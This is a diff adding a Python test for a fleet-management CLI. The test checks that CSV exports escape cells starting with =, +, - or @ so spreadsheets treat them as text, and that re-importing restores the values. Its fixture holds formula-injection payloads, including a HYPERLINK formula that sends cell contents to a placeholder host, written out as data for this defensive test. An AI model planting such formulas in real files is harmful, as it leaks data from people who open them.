@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import shutil
@@ -330,3 +331,40 @@ def test_an_import_of_many_fleets_names_ten_and_counts_the_rest(
     names = ", ".join(f"site-{i:03d}" for i in range(10))
     assert code == 0 and out == (f"many.csv: fleets new: {names} and 190 more; device groups:"
                                  " 200 added, 0 updated, 0 removed, 0 unchanged\n")
+
+
+def test_export_writes_formulas_as_text_and_imports_them_back(
+    config: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Sites, firmware, tags and serials come from CSV imports and the REST API (a CMDB whose
+    users type them): ``fleet export`` is opened in a spreadsheet, so a cell that would run as a
+    formula is written with a leading apostrophe, and importing the export gives it back."""
+    hostile = tmp_path / "hostile.csv"
+    hostile.write_text(
+        "fleet,model,firmware,count,site,tags,serials\n"
+        'msp,DS-2CD2043G2-I,V5.7.3,2,"=HYPERLINK(""http://x.example/?""&A1,""Lab"")",'
+        "+cmd;@SUM(1),-2+3\n"
+        "msp,DS-2CD2043G2-I,V5.7.3,3,'=typed as text,,\n"
+        "msp,DS-2CD2043G2-I,V5.7.3,4,'quoted,,\n"
+    )
+    code, _, err = cli(monkeypatch, config, "fleet", "import", str(hostile))
+    assert (code, err) == (0, "")
+    _, exported, _ = cli(monkeypatch, config, "fleet", "export", "msp")
+    rows = {row["count"]: row for row in csv.DictReader(io.StringIO(exported))}
+    cells = [v for row in rows.values() for v in row.values()]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], exported
+    assert rows["2"]["site"] == '\'=HYPERLINK("http://x.example/?"&A1,"Lab")'
+    assert (rows["2"]["tags"], rows["2"]["serials"]) == ("'+cmd;@SUM(1)", "'-2+3")
+    assert rows["3"]["site"] == "'=typed as text"  # a spreadsheet's own way to write text
+    assert rows["4"]["site"] == "''quoted"  # an apostrophe that is part of the text
+    (tmp_path / "exported.csv").write_text(exported)
+    other = tmp_path / "other"
+    other.mkdir()
+    monkeypatch.setenv("DATABASE_URL", f"tinydb:///{other / 'fw.json'}")
+    code, _, err = cli(monkeypatch, config, "fleet", "import", str(tmp_path / "exported.csv"))
+    assert (code, err) == (0, "")
+    assert cli(monkeypatch, config, "fleet", "export", "msp")[1] == exported
+    shown = json.loads(cli(monkeypatch, config, "fleet", "show", "msp", "--json")[1])
+    assert sorted((g["site"], g["tags"], g["serials"]) for g in shown["device_groups"]) == [
+        ("'quoted", [], []), ("=HYPERLINK(\"http://x.example/?\"&A1,\"Lab\")", ["+cmd", "@SUM(1)"],
+                             ["-2+3"]), ("=typed as text", [], [])]
